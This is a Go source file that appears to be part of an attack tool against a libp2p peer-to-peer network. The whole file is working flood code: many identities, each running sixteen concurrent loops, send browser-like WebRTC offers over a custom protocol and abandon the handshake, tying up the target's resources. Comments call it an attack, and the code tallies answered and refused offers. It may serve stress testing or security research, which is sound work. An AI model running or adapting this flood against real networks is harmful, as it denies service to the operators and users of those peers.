package main

import (
	"encoding/binary"
	"encoding/json"
	"io"
	"sync"

	"github.com/libp2p/go-libp2p/core/host"
	"github.com/pion/webrtc/v4"
)

// offersAtOnce is how many handshakes an identity keeps under way.
const offersAtOnce = 16

// offers: each identity makes WebRTC offers over and over, and never goes on with the handshake.
func (a *attack) offers() {
	message := offer()
	a.each(func(h host.Host) {
		var wg sync.WaitGroup
		for range offersAtOnce {
			wg.Go(func() {
				for a.ctx.Err() == nil && len(h.Network().Conns()) > 0 {
					a.offer(h, message)
				}
			})
		}
		wg.Wait()
	})
}

func (a *attack) offer(h host.Host, message []byte) {
	str := a.stream(h, offerProtocol)
	if str == nil {
		a.rest()
		return
	}
	defer str.Reset()
	if !a.write(str, message) {
		a.count("offers refused", 1)
		a.rest()
		return
	}
	answer, _ := io.ReadAll(str)
	var reply struct{ Type string }
	if len(answer) > 4 {
		_ = json.Unmarshal(answer[4:], &reply)
	}
	if reply.Type == "answer" {
		a.count("offers answered", 1)
	} else {
		a.count("offers refused", 1)
		a.rest()
	}
}

// offer is one that a browser might make, whose maker is gone.
func offer() []byte {
	pc, err := webrtc.NewPeerConnection(webrtc.Configuration{})
	check(err)
	_, err = pc.CreateDataChannel("unaiverse-data", nil)
	check(err)
	gathered := webrtc.GatheringCompletePromise(pc)
	description, err := pc.CreateOffer(nil)
	check(err)
	check(pc.SetLocalDescription(description))
	<-gathered
	body, err := json.Marshal(map[string]string{"type": "offer", "sdp": pc.LocalDescription().SDP})
	check(err)
	check(pc.Close())
	return append(binary.BigEndian.AppendUint32(nil, uint32(len(body))), body...)
}
